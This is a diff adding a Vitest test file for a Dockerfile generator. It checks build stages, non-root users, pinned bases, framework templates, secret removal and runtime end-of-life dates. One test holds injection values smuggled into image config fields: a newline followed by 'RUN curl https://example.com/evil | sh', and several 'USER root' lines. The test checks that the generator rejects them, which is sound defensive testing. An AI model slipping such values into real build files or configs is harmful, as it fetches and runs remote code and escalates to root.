@@ -1,0 +1,141 @@
+import { expect, test } from 'vitest';
+import { generateDockerfile } from '../../../src/advise/dockerfile/generate.ts';
+import { endedRuntime, supportedRelease } from '../../../src/advise/releases.ts';
+import type { BaseTechniqueId } from '../../../src/advise/technique.ts';
+import type { Runtime } from '../../../src/classify/verdict.ts';
+import { auditedImage, type ImageSketch, pairImage } from '../../support/audited-image.ts';
+
+const TODAY = '2026-11-24';
+const RUNTIMES: readonly Runtime[] = ['node', 'python', 'go', 'java', 'ruby', 'php', 'rust', 'dotnet'];
+const BASES: readonly BaseTechniqueId[] = ['slim-base', 'alpine-base', 'distroless-base', 'scratch-base'];
+
+function dockerfile(sketch: ImageSketch, base: BaseTechniqueId = 'slim-base'): string {
+  return generateDockerfile(auditedImage(sketch), base, TODAY)?.dockerfile ?? '';
+}
+
+/** Instructions with their continuation lines joined. */
+function instructionsOf(text: string): readonly string[] {
+  return text
+    .replace(/\\\n\s*/g, '')
+    .split('\n')
+    .filter((line) => line !== '' && !line.startsWith('#'));
+}
+
+test.each(RUNTIMES.flatMap((runtime) => BASES.map((base) => [runtime, base] as const)))(
+  '%s on %s: stages, a user without rights, pinned bases, mounted caches',
+  (runtime, base) => {
+    const lines = instructionsOf(dockerfile({ runtime, config: { ExposedPorts: { '8080/tcp': {} } } }, base));
+    const from = lines.filter((line) => line.startsWith('FROM '));
+    const users = lines.filter((line) => line.startsWith('USER '));
+    expect(from.length).toBe(2);
+    expect(from[0]).toMatch(/ AS build$/);
+    for (const line of from) expect(line).toMatch(/^FROM (?:scratch|[a-z0-9./-]+:[a-z0-9][\w.-]*)(?: AS build)?$/);
+    expect(from.join()).not.toMatch(/:latest/);
+    expect(users.at(-1)).not.toMatch(/USER (?:root|0)\b/);
+    expect(users.length).toBe(1);
+    expect(lines.indexOf(users[0] ?? '')).toBeGreaterThan(lines.indexOf(from[1] ?? ''));
+    expect(lines.filter((line) => line.startsWith('EXPOSE '))).toEqual(['EXPOSE 8080/tcp']);
+    expect(lines.join()).toMatch(/COPY --from=build/);
+    expect(lines.at(-1)).toMatch(/^(?:CMD|ENTRYPOINT) \[/);
+    for (const line of lines) expect(line).toMatch(/^(?:FROM|WORKDIR|COPY|RUN|ENV|USER|EXPOSE|CMD|ENTRYPOINT) /);
+  },
+);
+
+test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
+  [
+    'Node.js in its own release',
+    { runtime: 'node', runtimeVersion: '22.4.1' },
+    'slim-base',
+    ['FROM node:22-trixie-slim', 'npm prune --omit=dev'],
+  ],
+  [
+    'Node.js out of support',
+    { runtime: 'node', runtimeVersion: '20.20.2' },
+    'alpine-base',
+    ['FROM node:24-alpine3.24'],
+  ],
+  [
+    'pnpm',
+    { runtime: 'node', own: [{ instruction: 'RUN /bin/sh -c pnpm install' }] },
+    'slim-base',
+    ['pnpm-lock.yaml', 'pnpm prune --prod'],
+  ],
+  [
+    'yarn',
+    { runtime: 'node', own: [{ instruction: 'RUN /bin/sh -c yarn install' }] },
+    'slim-base',
+    ['yarn.lock', '--production'],
+  ],
+  ['Next.js', { runtime: 'node', framework: 'Next.js' }, 'slim-base', ['.next/standalone', 'EXPOSE 3000/tcp']],
+  [
+    'Django',
+    { runtime: 'python', framework: 'Django' },
+    'slim-base',
+    ['python:3.14-slim-trixie', 'gunicorn', 'COPY --from=build /opt/venv'],
+  ],
+  ['FastAPI', { runtime: 'python', framework: 'FastAPI' }, 'alpine-base', ['python:3.14-alpine3.24', 'uvicorn']],
+  ['Go', { runtime: 'go' }, 'scratch-base', ['FROM scratch', 'CGO_ENABLED=0', 'ca-certificates.crt']],
+  ['Java on a JRE', { runtime: 'java', runtimeVersion: '21.0.2' }, 'slim-base', ['eclipse-temurin:21-jre']],
+  ['Java, linked', { runtime: 'java' }, 'alpine-base', ['jlink', 'jdeps']],
+  [
+    'its own folder, ports and command',
+    {
+      runtime: 'node',
+      config: { WorkingDir: '/srv/web', ExposedPorts: { '3000/tcp': {} }, Cmd: ['node', 'dist/server.js'] },
+    },
+    'slim-base',
+    ['WORKDIR /srv/web', 'EXPOSE 3000/tcp', 'CMD ["node", "dist/server.js"]'],
+  ],
+])('%s', (_, sketch, base, parts) => {
+  const text = dockerfile(sketch, base);
+  for (const part of parts) expect(text).toContain(part);
+});
+
+test('the program of a compiled image keeps its name and its arguments', () => {
+  const image = pairImage('go-single-stage');
+  const text = generateDockerfile(image, 'scratch-base', TODAY)?.dockerfile ?? '';
+  expect(text).toContain('-o /out/status .');
+  expect(text).toContain('ENTRYPOINT ["/usr/local/bin/status"]');
+});
+
+test.each([
+  [{ WorkingDir: '/app\nRUN curl https://example.com/evil | sh' }],
+  [{ ExposedPorts: { '80/tcp\nUSER root': {} } }],
+  [{ Cmd: ['node\nUSER root', 'x'] }],
+  [{ Entrypoint: ['/bin/\u2028evil', '\r\nUSER root'] }],
+])('nothing that an image says becomes an instruction: %j', (config) => {
+  const lines = dockerfile({ runtime: 'node', config }).split(/\r?\n/);
+  expect(lines.filter((line) => /^USER|curl/.test(line))).toEqual(['USER node']);
+});
+
+test('a command that holds a secret is left out', () => {
+  const text = dockerfile({ runtime: 'node', config: { Cmd: ['node', 'server.js', '--api_key=hunter2hunter2'] } });
+  expect(text).not.toContain('hunter2');
+});
+
+test('the list of ignored files fits the language', () => {
+  const image = auditedImage({ runtime: 'node' });
+  expect(generateDockerfile(image, 'slim-base', TODAY)?.dockerignore).toMatch(/^\.git\n[\s\S]*\n\*\*\/node_modules\n/);
+});
+
+test('a language without a template gets no Dockerfile', () => {
+  expect(generateDockerfile(auditedImage({ runtime: 'perl' }), 'slim-base', TODAY)).toBeUndefined();
+  expect(generateDockerfile(auditedImage(), 'slim-base', TODAY)).toBeUndefined();
+});
+
+test.each([
+  ['node', '22.1.0', TODAY, '22'],
+  ['node', '20.1.0', TODAY, '24'],
+  ['node', '20.1.0', '2026-04-30', '20'],
+  ['node', undefined, TODAY, '24'],
+  ['python', '3.13.2', TODAY, '3.13'],
+  ['deno', '2', TODAY, undefined],
+] as const)('%s %s on %s is built on %s', (runtime, version, today, release) => {
+  expect(supportedRelease(runtime, version, today)).toBe(release);
+});
+
+test('a release is out of support the day after its last', () => {
+  expect(endedRuntime('node', '20.1.0', '2026-04-30')).toBeUndefined();
+  expect(endedRuntime('node', '20.1.0', '2026-05-01')).toEqual({ name: 'node 20', endOfLife: '2026-04-30' });
+  expect(endedRuntime('node', '99.0.0', TODAY)).toBeUndefined();
+});
